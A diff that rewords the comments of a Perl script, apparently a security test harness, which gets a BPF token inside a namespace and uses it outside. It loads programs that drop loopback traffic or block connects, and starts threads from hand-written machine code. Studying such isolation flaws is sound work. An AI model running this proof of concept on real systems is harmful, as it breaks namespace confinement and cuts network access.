@@ -1,13 +1,13 @@
 # Gets a token inside a namespace and uses it outside: leak.pl SOCKET UID REQUEST MODE [CGROUP]
 #
-# Run as root in a network namespace of the initial user namespace. `before` and `after` say whether
-# datagrams of root's still arrive over its loopback; with a cgroup, whether root in it may connect.
+# Run as root in a network namespace of the initial user namespace. `before` and `after` state whether
+# root's datagrams arrive over its loopback; with a cgroup, whether root in it may connect.
 #
-#   clean    one process, in a network namespace of its own
-#   process  another process of the namespace has stayed in the network outside
-#   thread   a second thread has stayed in the network outside
-#   dead     a process whose leader has exited has a thread in the network outside
-#   sent     the token goes to a process outside, which was never in the namespace
+#   clean    one process, in a new network namespace
+#   process  another process of the user namespace remains in the outside network namespace
+#   thread   a second thread remains in the outside network namespace
+#   dead     a process whose leader has exited has a thread in the outside network namespace
+#   sent     the token is sent to a process that was never in the user namespace
 use strict;
 use warnings;
 use Attack;
@@ -27,7 +27,7 @@ if ($hostile == 0) {
     sent => \&sent);
   my @kept = $modes{$mode}->();
   syswrite $done_write, 'x';
-  # Until root has looked.
+  # Keep it attached until root has checked.
   sysread $end_read, my $byte, 1;
   POSIX::_exit(0);
 }
@@ -36,7 +36,7 @@ if (defined $cgroup) {
   my $joined = write_file("$cgroup/cgroup.procs", "$$\n");
   die "$cgroup: " . errno_name($joined) . "\n" if $joined < 0;
 }
-# What stays in the root's network is started meanwhile, but nothing is attached before the token.
+# The stray in root's network namespace starts before the request; nothing is attached before the token arrives.
 sysread $done_read, my $byte, 1;
 say_value('network', network_works() ? 'works' : 'cut');
 say_value('connect', errno_name(connects())) if defined $cgroup;
@@ -67,7 +67,7 @@ sub connects {
   return connect($socket, pack_sockaddr_in(9, INADDR_LOOPBACK)) ? 0 : -($! + 0);
 }
 
-# Asks for the token and says what came of it.
+# Requests the token and prints the result.
 sub get {
   my ($answer, $token) = ask($path, $request, 4);
   say_value('answer', $answer);
@@ -75,7 +75,7 @@ sub get {
   return $token;
 }
 
-# One program that may be harmless: loads, and says so.
+# Loads one harmless program and prints the result.
 sub load {
   my ($token) = @_;
   my $code = insn(0xb7, 0, 0, 0, 2) . insn(0x95, 0, 0, 0, 0);
@@ -115,7 +115,7 @@ sub dead {
   own_namespace($uid, 0);
   my $other = fork // die;
   if ($other == 0) {
-    # Who asks ends with its parent: the thread that stays too.
+    # The requester and its remaining thread end with their parent.
     sys('prctl', 1, 9, 0, 0, 0);
     start_thread();
     sys('exit', 0);
@@ -144,13 +144,13 @@ sub sent {
   say_value('map', errno_name(map_create($token)));
   my ($link, $program);
   if (defined $cgroup) {
-    # cgroup_sock_addr that answers no to connect4.
+    # cgroup_sock_addr program that refuses connect4.
     ($program) = program_load($token, 18, 10, insn(0xb7, 0, 0, 0, 0) . insn(0x95, 0, 0, 0, 0));
     opendir my $folder, $cgroup or die "$cgroup: $!\n";
     open my $file, '<', $cgroup or die "$cgroup: $!\n";
     $link = $program < 0 ? $program : bpf(28, pack 'LLL', $program, fileno $file, 10);
   } else {
-    # XDP_DROP at the loopback.
+    # XDP_DROP on the loopback device.
     ($program) = program_load($token, 6, 37, insn(0xb7, 0, 0, 0, 1) . insn(0x95, 0, 0, 0, 0));
     $link = $program < 0 ? $program : bpf(28, pack 'LLL', $program, 1, 37);
   }
@@ -158,7 +158,7 @@ sub sent {
   say_value('attached', errno_name($link));
 }
 
-# A second thread that waits for ever: perl-base has no threads, so its code is put in memory by hand.
+# Starts a second thread that waits forever. perl-base has no threads, so its machine code is written to memory.
 sub start_thread {
   my %code = (
     x86_64 => 'b838000000488b3d24000000488b352500000031d24531d24531c00f0585c07401c3b822000000'
@@ -166,7 +166,7 @@ sub start_thread {
     aarch64 => '881b80d22002005841020058020080d2030080d2040080d2010000d4400000b4c0035fd6000080d2'
       . '010080d2020080d2030080d2040080d2280980d2010000d4f9ffff171f2003d5',
   );
-  # CLONE_VM, FS, FILES, SIGHAND, THREAD and SYSVSEM; then the top of its stack.
+  # CLONE_VM, FS, FILES, SIGHAND, THREAD and SYSVSEM, followed by the top of the stack.
   my $memory = sys('mmap', 0, 16384, 3, 0x22, -1, 0);
   die "mmap\n" if $memory < 0;
   my $text = pack('H*', $code{$machine}) . pack 'QQ', 0x50f00, $memory + 16384;
